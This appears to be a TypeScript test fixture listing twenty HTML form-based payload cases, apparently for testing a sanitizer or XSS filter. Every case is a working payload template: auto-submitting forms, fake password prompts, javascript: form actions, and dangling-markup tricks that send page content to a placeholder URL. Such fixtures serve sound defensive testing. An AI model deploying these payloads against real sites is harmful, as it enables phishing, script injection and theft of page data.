import type { Case } from '../case';

/* Forms: asking for secrets, sending by themselves, sending elsewhere. */
export const forms: Case[] = [
  [
    'asks for a password',
    '<form action="{url}"><input type="password" name="p"><button>Sign in</button></form><img src="{url}" width="50">',
  ],
  ['sends itself', '<form action="{url}" id="f"><input name="a"></form><script>document.forms[0].submit()</script>'],
  [
    'sends itself by an image',
    '<form action="{url}"><input type="image" src="x" onerror="this.form.submit();{run}"></form>',
  ],
  ['sends itself on focus', '<form action="{url}"><button autofocus onfocus="this.click();{run}">x</button></form>'],
  ['image as a button', '<input type="image" src="{url}">'],
  [
    'button of another form',
    '<form id="a"></form><button form="a" formaction="javascript:{run}" autofocus onfocus="this.click()">x</button>',
  ],
  ['button to elsewhere', '<form><button formaction="{url}" autofocus onfocus="this.click()">x</button></form>'],
  ['input to elsewhere', '<form><input type="submit" formaction="{url}" autofocus onfocus="this.click()"></form>'],
  ['to the top', '<form action="{url}" target="_top"><input autofocus onfocus="this.form.submit()"></form>'],
  ['to a script', '<form action="javascript:{run}"><input autofocus onfocus="this.form.submit()"></form>'],
  [
    'by post',
    '<form method="post" enctype="text/plain" action="{url}"><input autofocus name="a" value="b" onfocus="this.form.submit()"></form>',
  ],
  ['dangling action', '<form action="{url}"><textarea name="all" autofocus onfocus="this.form.submit()">'],
  ['dangling option', '<form action="{url}"><input autofocus onfocus="this.form.submit()"><select name="all"><option>'],
  ['dangling button', '<img src=x onerror="{run}"><button form="f" formaction="{url}" name="all" value=\''],
  ['file', '<input type="file" autofocus onfocus="{run}">'],
  [
    'hidden',
    '<form action="{url}"><input type="hidden" name="a"><img src=x onerror="document.forms[0].submit()"></form>',
  ],
  ['dialog', '<dialog open><form method="dialog" action="{url}"><img src=x onerror="{run}"></form></dialog>'],
  ['is index', '<isindex action="{url}" prompt="x"><img src=x onerror="{run}">'],
  ['key generator', '<keygen autofocus onfocus="{run}"><input autofocus onfocus="{run}">'],
  ['output', '<form oninput="{run}"><output name="a"></output><input autofocus onfocus="{run}"></form>'],
];
